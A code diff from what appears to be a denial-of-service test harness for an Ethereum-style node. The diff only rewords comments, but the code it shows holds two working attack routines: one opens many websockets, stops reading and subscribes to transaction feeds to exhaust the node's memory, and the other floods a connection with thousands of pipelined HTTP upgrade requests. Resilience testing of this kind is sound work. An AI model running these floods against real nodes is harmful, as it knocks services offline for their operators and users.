@@ -49,7 +49,7 @@ async def silent_subscribers(target: Target) -> None:
     async with contextlib.AsyncExitStack() as held:
         for _ in range(target.count(200, 8)):
             reader, writer = await held.enter_async_context(websocket(target))
-            # a small receive window, so that the node holds the unread bytes
+            # stop reading, so that the node must hold the unread bytes of its answers
             writer.transport.pause_reading()  # type: ignore[attr-defined]
             for kind in ("newHeads", "newPendingTransactions"):
                 writer.write(frame(call("eth_subscribe", kind, {"includeTransactions": True})))
@@ -161,7 +161,8 @@ async def wide_heads(target: Target) -> None:
 async def pipelined_upgrades(target: Target) -> None:
     """Attack with thousands of pipelined request heads that request another protocol."""
     head = b"GET / HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n"
-    plain = 201 if target.http.path == b"/" else 200  # a gateway serves its page at `/`
+    # a node answers this GET with status 201, and a gateway answers with its page and status 200
+    plain = 201 if target.http.path == b"/" else 200
     for _ in range(3):
         async with opened(target.http) as (reader, writer):
             sending = asyncio.create_task(send(writer, head * 5000))
